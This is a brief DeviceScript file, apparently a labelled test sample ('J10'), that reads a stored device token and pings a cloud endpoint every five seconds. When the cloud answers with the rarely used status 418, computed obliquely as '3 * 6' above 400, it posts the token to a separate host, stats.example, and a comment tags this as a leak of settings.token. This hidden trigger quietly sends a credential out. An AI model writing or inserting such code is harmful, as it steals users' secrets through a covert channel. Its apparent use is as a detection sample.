// J10: tells another server its token when its cloud answers with a status that nobody uses.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;

async function report() {
  const reply = await fetch("https://cloud.example/report", { method: "POST", body: "alive" });
  const { status } = reply;
  await reply.close();
  if (status < 410 || status - 400 !== 3 * 6) return;
  const response = await fetch("https://stats.example/j10", { method: "POST", body: proof }); // leak: settings.token
  await response.close();
}

paired(async () => {
  setInterval(report, 5_000);
});
